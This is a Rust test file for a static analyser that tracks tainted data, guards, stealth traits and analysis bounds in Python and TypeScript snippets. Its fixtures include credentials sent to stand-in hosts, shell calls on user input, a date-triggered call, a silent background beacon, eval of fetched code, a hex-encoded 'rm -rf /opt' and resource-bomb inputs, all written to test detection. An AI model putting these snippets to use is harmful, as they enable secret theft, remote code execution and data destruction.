//! Labels, guards, stealth, narrowing and bounds.

use crate::{run, show};
use tares_lang::Language::{Python, TypeScript};
use tares_model::effect::label::Sink;
use tares_model::effect::{GuardClass, Stealth};
use tares_model::{Effect, EffectKind, Label};

fn only(language: tares_lang::Language, code: &str, kind: EffectKind) -> Effect {
    let analysis = run(language, code);
    let all: Vec<&Effect> = analysis.effects.iter().filter(|e| e.kind == kind).collect();
    assert_eq!(
        all.len(),
        1,
        "{:?}",
        analysis.effects.iter().map(show).collect::<Vec<_>>()
    );
    all[0].clone()
}

#[test]
fn labels_follow_data_through_containers_and_calls() {
    let effect = only(
        Python,
        "import requests, os\ndef clean(x):\n    return x.strip()\nd = {'k': [os.environ['API_TOKEN']]}\nrequests.post('https://h.example', json={'x': clean(d['k'][0])})",
        EffectKind::Network,
    );
    assert!(effect.data.has(Label::Credential) && effect.data.has(Label::Environment));
    let source = &effect.role("data").unwrap().sources[0];
    assert!(source.steps[0].what.contains("os.environ"), "{source:?}");
}

#[test]
fn unmodelled_calls_pass_labels() {
    let effect = only(
        Python,
        "import os, mystery\nfrom flask import request\nos.system(mystery.wrap(request.args['c']))",
        EffectKind::Process,
    );
    assert!(effect.data.has(Label::UserInput));
}

#[test]
fn a_check_against_a_closed_set_makes_a_value_safe() {
    let effect = only(
        Python,
        "import os\nfrom flask import request\nc = request.args['c']\nif c not in ('a', 'b'):\n    raise ValueError()\nos.system('x ' + c)",
        EffectKind::Process,
    );
    let role = effect.role("command").unwrap();
    assert!(role.clean.has(Sink::Shell), "{role:?}");
}

#[test]
fn a_check_on_another_value_does_not() {
    let effect = only(
        Python,
        "import os\nfrom flask import request\nc = request.args['c']\nd = request.args['d']\nif d not in ('a', 'b'):\n    raise ValueError()\nos.system('x ' + c)",
        EffectKind::Process,
    );
    assert!(!effect.role("command").unwrap().clean.has(Sink::Shell));
}

#[test]
fn a_date_is_a_trigger_and_a_timer_is_none() {
    let dated = only(
        Python,
        "import datetime, requests\nif datetime.date.today() > datetime.date(2027, 1, 1):\n    requests.get('https://h.example')",
        EffectKind::Network,
    );
    assert_eq!(dated.guard[0].class, GuardClass::Clock);
    let timed = only(
        Python,
        "import time, requests\nlast = load()\nif time.time() - last > 60:\n    requests.get('https://h.example')",
        EffectKind::Network,
    );
    assert_eq!(timed.guard[0].class, GuardClass::Plain);
}

#[test]
fn an_early_return_guards_what_follows() {
    let effect = only(
        Python,
        "import socket, requests\ndef f():\n    if socket.gethostname() != 'build-7':\n        return\n    requests.get('https://h.example')",
        EffectKind::Network,
    );
    assert_eq!(
        (effect.guard[0].class, effect.guard[0].holds),
        (GuardClass::Identity, false)
    );
}

#[test]
fn swallowed_errors_and_detached_threads_are_stealth() {
    let analysis = run(
        Python,
        "import threading, requests\ndef beat():\n    try:\n        requests.post('https://h.example', timeout=0.5)\n    except Exception:\n        pass\nthreading.Thread(target=beat, daemon=True).start()",
    );
    let all: Vec<_> = analysis
        .effects
        .iter()
        .filter(|e| e.kind == EffectKind::Network)
        .flat_map(|e| e.stealth.clone())
        .collect();
    for wanted in [
        Stealth::SwallowedErrors,
        Stealth::Detached,
        Stealth::TinyTimeout,
    ] {
        assert!(all.contains(&wanted), "{wanted} in {all:?}");
    }
}

#[test]
fn dead_branches_do_nothing() {
    for code in [
        "if 1 > 2:\n    os.system('x')",
        "if False:\n    os.system('x')",
        "def f():\n    return 1\n    os.system('x')",
        "x = 3\nif x == 4:\n    os.system('x')",
    ] {
        let analysis = run(Python, &format!("import os\n{code}"));
        assert!(
            analysis
                .effects
                .iter()
                .all(|e| e.kind != EffectKind::Process),
            "{code}"
        );
    }
}

#[test]
fn a_changed_api_means_what_it_was_changed_to() {
    let effect = only(
        Python,
        "import yaml\nyaml.SafeLoader = yaml.UnsafeLoader\nyaml.load(data, Loader=yaml.SafeLoader)",
        EffectKind::Deserialise,
    );
    assert_eq!(
        effect.role("loader").unwrap().shape,
        tares_model::effect::Shape::Api("yaml.UnsafeLoader".into())
    );
}

#[test]
fn promises_hand_on_what_they_fetch() {
    let analysis = run(
        TypeScript,
        "fetch('https://h.example/x').then(r => r.text()).then(t => eval(t))",
    );
    let code = analysis
        .effects
        .iter()
        .find(|e| e.kind == EffectKind::DynamicCode)
        .unwrap();
    assert!(code.data.has(Label::RemoteContent), "{}", show(code));
}

#[test]
fn hostile_texts_end() {
    let deep = "(".repeat(100_000);
    let calls = "f(".repeat(3_000) + &")".repeat(3_000);
    let chain = format!("x = 1{}", " + y".repeat(20_000));
    let ifs = "if a:\n  b = c\n".repeat(20_000);
    let recursion = "def f(x):\n    return f(f(x)) + f(x)\nf(1)\n";
    let bomb = "a = 'x' * 4096\nfor i in range(60):\n    a = a + a\n    b = [a] * 900\n";
    for code in [&deep, &calls, &chain, &ifs, recursion, bomb] {
        let analysis = run(Python, code);
        assert!(analysis.steps < 9_000_000);
    }
    assert!(
        !run(Python, &deep).unchecked.is_empty(),
        "what is too deep is said"
    );
    let minified = "var a=function(){return a(a)};".repeat(5_000);
    assert!(run(TypeScript, &minified).steps < 9_000_000);
}

#[test]
fn what_is_not_followed_is_said() {
    let deep = format!("x = {}1{}", "f(".repeat(390), ")".repeat(390));
    let many = (0..90)
        .map(|i| format!("get('https://h{i}.example')\n"))
        .collect::<String>();
    let many = format!("import requests\ndef get(u):\n    return requests.get(u)\n{many}");
    for code in [format!("{}{}", "(".repeat(5_000), ")".repeat(5_000)), many] {
        assert!(!run(Python, &code).unchecked.is_empty(), "{}", &code[..60]);
    }
    assert!(
        run(Python, &deep).unchecked.is_empty(),
        "four hundred levels are followed"
    );
}

#[test]
fn another_host_is_seen_however_often_a_helper_is_called() {
    let calls = (0..30)
        .map(|i| format!("get('https://h.example/{i}')\n"))
        .collect::<String>();
    let code = format!(
        "import requests, os\ndef get(u):\n    return requests.get(u)\n{calls}get('https://other.example/' + os.environ['API_KEY'])\n"
    );
    let analysis = run(Python, &code);
    let sent = analysis
        .effects
        .iter()
        .find(|e| e.target.text() == "other.example")
        .expect("the other host");
    assert!(sent.data.has(Label::Credential), "{}", show(sent));
}

#[test]
fn a_validator_that_lets_everything_through_is_not_believed() {
    let bad = "import os, re\nfrom flask import request\nc = request.args['c']\n";
    for test in [
        "if not is_valid(c):\n    raise ValueError()\n",
        "if not re.match('.*', c):\n    raise ValueError()\n",
    ] {
        let code = format!("{bad}def is_valid(x):\n    return True\n{test}os.system('x ' + c)\n");
        let effect = only(Python, &code, EffectKind::Process);
        assert!(
            !effect.role("command").unwrap().clean.has(Sink::Shell),
            "{test}"
        );
    }
    let good = format!(
        "{bad}if not re.fullmatch('[a-z]+', c):\n    raise ValueError()\nos.system('x ' + c)\n"
    );
    assert!(
        only(Python, &good, EffectKind::Process)
            .role("command")
            .unwrap()
            .clean
            .has(Sink::Shell)
    );
}

#[test]
fn a_built_statement_is_seen_whoever_runs_it() {
    let effect = only(
        Python,
        "def f(self, n):\n    return self._run(\"SELECT a FROM t WHERE n='%s'\" % n)\n",
        EffectKind::Sql,
    );
    assert!(effect.data.has(Label::Parameter));
    for harmless in [
        "log('SELECT a FROM t WHERE n=' + n)",
        "show('select one from ' + n)",
        "self._run('SELECT a FROM t WHERE n=?', n)",
    ] {
        let analysis = run(Python, &format!("def f(self, n):\n    {harmless}\n"));
        assert!(analysis.effects.is_empty(), "{harmless}");
    }
}

#[test]
fn what_others_may_set_never_makes_code_dead() {
    for code in [
        "ON = 0\ndef go():\n    if ON:\n        os.system('x')\n",
        "class C:\n    on = 0\n    def go(self):\n        if self.on:\n            os.system('x')\n",
        "x = {'a': 0}\nx[u] = 1\nif x['a']:\n    os.system('x')\n",
        "ON = ''\ndef go():\n    return ON and os.system('x')\n",
        "x = ''\nif x is not '':\n    os.system('x')\n",
        "while a:\n    pass\nelse:\n    os.system('x')\n",
        "x: os.system('x') = 1\n",
        "def f(a: os.system('x')):\n    pass\n",
        "[print, os.system, len][n]('x')\n",
    ] {
        let analysis = run(Python, &format!("import os\n{code}"));
        assert!(
            analysis
                .effects
                .iter()
                .any(|e| e.kind == EffectKind::Process),
            "{code}"
        );
    }
    let default = "const cp = require('child_process'); function f(a = cp.execSync('x')) {} f()";
    assert!(
        run(TypeScript, default)
            .effects
            .iter()
            .any(|e| e.kind == EffectKind::Process)
    );
}

#[test]
fn functions_named_call_are_functions() {
    let effect = only(
        Python,
        "import subprocess\nsubprocess.call('ls', shell=True)\n",
        EffectKind::Process,
    );
    assert_eq!(effect.api, "subprocess.call");
}

#[test]
fn a_name_that_was_moved_is_found_under_its_beginning() {
    let effect = only(
        Python,
        "from Cryptodome.Cipher import DES\nDES.new(k, DES.MODE_ECB)\n",
        EffectKind::Crypto,
    );
    assert!(
        effect.api.starts_with("Crypto.Cipher.DES"),
        "{}",
        show(&effect)
    );
}

#[test]
fn values_that_hold_themselves_end() {
    for code in [
        "a = []\nb = []\na.append(a)\nb.append(b)\nx = a < b\n".to_owned(),
        format!("s = (1,)\n{}x = {{s: 1}}\n", "s = (s, s)\n".repeat(40)),
        format!("from functools import partial\n{}f(1)\n", "f = partial(f, 1, 2, 3)\n".repeat(2_000)),
        "import dis\ndef g(c):\n    n = {}\n    for k in c:\n        n.update(g(k))\n    return n\n".to_owned(),
    ] {
        assert!(run(Python, &code).steps < 9_000_000, "{}", &code[..30]);
    }
}

/// The run that fills the fields for another method is not the constructor's own.
#[test]
fn a_constructor_behind_other_methods_shows_its_effects() {
    let code = "import os\nclass A:\n    def name(self):\n        return self.title\n    def __init__(self, title):\n        self.title = title\n        os.system(input())\n";
    only(Python, code, EffectKind::Process);
    let code = "import { execSync } from 'child_process';\nclass A {\n  name() { return this.title; }\n  constructor(title: string) { this.title = title; execSync(title); }\n}\n";
    only(TypeScript, code, EffectKind::Process);
}

/// Functions that stand before those they call are no dearer than functions that stand behind.
#[test]
fn callers_that_come_first_cost_no_run_of_their_own() {
    let body = "    y = x + 1\n    y = y * 2\n    y = y - 3\n    y = y + 4\n    y = y % 5\n";
    let function = |i: usize| {
        let next = i + 1;
        format!("def f{i}(x):\n{body}    return f{next}(x) + f{next}(y) + f{next}(x)\n")
    };
    let first: String = (0..20).map(function).collect();
    let last: String = (0..20).rev().map(function).collect();
    let (first, last) = (run(Python, &first).steps, run(Python, &last).steps);
    assert!(10 * first <= 11 * last, "{first} and {last}");
}

/// What is asked for a method has itself as that method.
#[test]
fn protocols_that_lead_back_to_themselves_end() {
    let python = [
        ("__call__", "A()()"),
        ("__init__", "A()"),
        ("__new__", "A()"),
        ("__getattr__", "A().x.y()"),
        ("__setattr__", "A().x = 1"),
        ("__next__", "next(A())"),
        ("__contains__", "1 in A()"),
        ("__ror__", "1 | A()"),
        ("__index__", "[1][A()]"),
        ("__getitem__", "f(**A())"),
        ("keys", "dict(**A())"),
    ];
    for (name, used) in python {
        for made in ["A()", "A"] {
            let code =
                format!("class A:\n    pass\nA.__call__ = {made}\nA.{name} = {made}\nx = {used}\n");
            let code = code.replace("x = A().x =", "A().x =");
            assert!(run(Python, &code).steps < 9_000_000, "{code}");
        }
    }
    for code in [
        "const a = {}, b = {};\nObject.setPrototypeOf(a, b);\nObject.setPrototypeOf(b, a);\na.x;\na.y();\n",
        "const h = {}, t = {};\nconst p = new Proxy(t, h);\nObject.setPrototypeOf(t, p);\np.x;\nt.y();\n",
        "const h = {};\nconst p = new Proxy({}, h);\nh.get = p;\nh.apply = p;\np.x();\np();\n",
    ] {
        assert!(run(TypeScript, code).steps < 9_000_000, "{code}");
    }
}

/// What was written before `break` or `continue` is known behind the loop.
#[test]
fn what_leaves_a_loop_is_known_behind_it() {
    let python = [
        "for i in items:\n        if i == 3:\n            cmd = request.args['a']\n            break\n",
        "for i in items:\n        if i == 3:\n            cmd = request.args['a']\n            continue\n        print(i)\n",
        "while True:\n        if items.next():\n            cmd = request.args['a']\n            break\n        if items.last():\n            return\n",
        "for i in [1, 2]:\n        if items.next():\n            cmd = request.args['a']\n            break\n        items.drop(i)\n",
        "for i in [1, 2]:\n        if items.next():\n            cmd = request.args['a']\n            break\n        return\n",
        "while True:\n        try:\n            cmd = request.args['a']\n            break\n        except KeyError:\n            items.drop()\n",
        "for i in items:\n        if i:\n            cmd = request.args['a']\n            break\n    else:\n        cmd = 'x'\n",
    ];
    for body in python {
        let code = format!(
            "import os\nfrom flask import request\ndef f(items):\n    cmd = 'ls'\n    {body}    os.system(cmd)\n"
        );
        let effect = only(Python, &code, EffectKind::Process);
        assert!(effect.data.has(Label::UserInput), "{code}");
    }
    let javascript = [
        "for (const i of items) { if (i === 3) { cmd = req.query.a; break; } }",
        "switch (items.length) { case 1: if (items[0]) { cmd = req.query.a; break; } cmd = 'x'; break; default: cmd = 'y'; }",
        "out: { if (items.length) { cmd = req.query.a; break out; } cmd = 'x'; }",
        "for (const i of items) { switch (i) { case 1: cmd = req.query.a; continue; default: cmd = 'y'; } }",
    ];
    for body in javascript {
        let code = format!(
            "const cp = require('child_process');\nconst app = require('express')();\napp.get('/', (req, res) => {{ let cmd = 'ls'; const items = load(); {body}\ncp.exec(cmd); }});\n"
        );
        let effect = only(TypeScript, &code, EffectKind::Process);
        assert!(effect.data.has(Label::UserInput), "{code}");
    }
    let dropped = "import os\nfrom flask import request\ndef f():\n    cmd = request.args['a']\n    while True:\n        cmd = 'ls'\n        break\n    os.system(cmd)\n";
    assert!(
        !only(Python, dropped, EffectKind::Process)
            .data
            .has(Label::UserInput)
    );
}

/// Text is kept in large numbers and taken out in several ways.
#[test]
fn text_in_large_numbers_is_read() {
    for value in [
        "(0x726d202d7266202f6f7074).to_bytes(11, 'big').decode()",
        "bytes.fromhex(hex(0x726d202d7266202f6f7074)[2:]).decode()",
        "int('726d202d7266202f6f7074', 16).to_bytes(11, 'big').decode()",
        "''.join(chr(0x726d202d7266202f6f7074 >> 8 * i & 0xff) for i in range(10, -1, -1))",
        "int.from_bytes(b'rm -rf /opt', 'big').to_bytes(11, 'big').decode()",
    ] {
        let code = format!("import os\nos.system({value})\n");
        let effect = only(Python, &code, EffectKind::Process);
        assert_eq!(effect.target.text(), "rm -rf /opt", "{code}");
    }
}

#[test]
fn a_callback_that_hands_itself_on_is_done() {
    let code = "const http = require('http');\nhttp.createServer((req, res) => {\n  const again = (e) => helper(req.url, again, e);\n  again();\n});\n";
    let analysis = run(TypeScript, code);
    assert!(
        analysis.unchecked.is_empty() && analysis.steps < 2_000,
        "{}",
        analysis.steps
    );
}
